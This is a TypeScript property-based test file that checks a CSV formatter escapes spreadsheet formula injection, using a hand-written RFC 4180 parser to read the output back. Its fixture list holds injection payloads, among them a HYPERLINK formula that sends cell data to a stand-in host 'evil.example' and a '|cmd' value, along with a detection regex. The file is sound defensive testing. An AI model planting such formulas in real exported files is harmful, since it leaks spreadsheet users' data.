import fc from 'fast-check';
import { expect, it } from 'vitest';
import { escapeFormula, formatCsv } from './csv.ts';

/** Parses CSV by RFC 4180, character by character and independent of the tested code. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at];
    if (isQuoted) {
      if (letter !== '"') field += letter;
      else if (text[at + 1] === '"') {
        field += '"';
        at += 1;
      } else isQuoted = false;
    } else if (letter === '"') isQuoted = true;
    else if (letter === ',') {
      row.push(field);
      field = '';
    } else if (letter === '\r' && text[at + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      at += 1;
    } else throw new Error(`unquoted ${JSON.stringify(letter)} at ${at}`);
  }
  return rows;
}

const nasty = fc.constantFrom(
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  '+61400000000',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r\n=1',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '＝1',
  "'=1",
  'a,"b"\r\nc',
  '|cmd',
  '%0A',
);
const cell = fc.oneof(fc.string({ unit: 'binary' }), nasty);
const table = fc
  .integer({ min: 1, max: 5 })
  .chain((width) =>
    fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 8 }),
  );

it('formatCsv writes cells that a parser reads back, with formulas escaped', () => {
  fc.assert(
    fc.property(table, (rows) => {
      expect(readCsv(formatCsv(rows))).toEqual(rows.map((cells) => cells.map(escapeFormula)));
    }),
  );
});

it('formatCsv never writes a field that a spreadsheet could execute', () => {
  fc.assert(
    fc.property(table, (rows) => {
      for (const field of readCsv(formatCsv(rows)).flat()) {
        expect(field).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@＝＋－＠|%]/);
        expect(field).not.toMatch(/^[\t\r\n]/);
      }
    }),
  );
});

it.each(['Casey', '30K - 120K', '0400 000 000', "O'Neill", 'a=b', '', '3 Nov 2026'])(
  'escapeFormula leaves %j unchanged',
  (text) => {
    expect(escapeFormula(text)).toBe(text);
  },
);
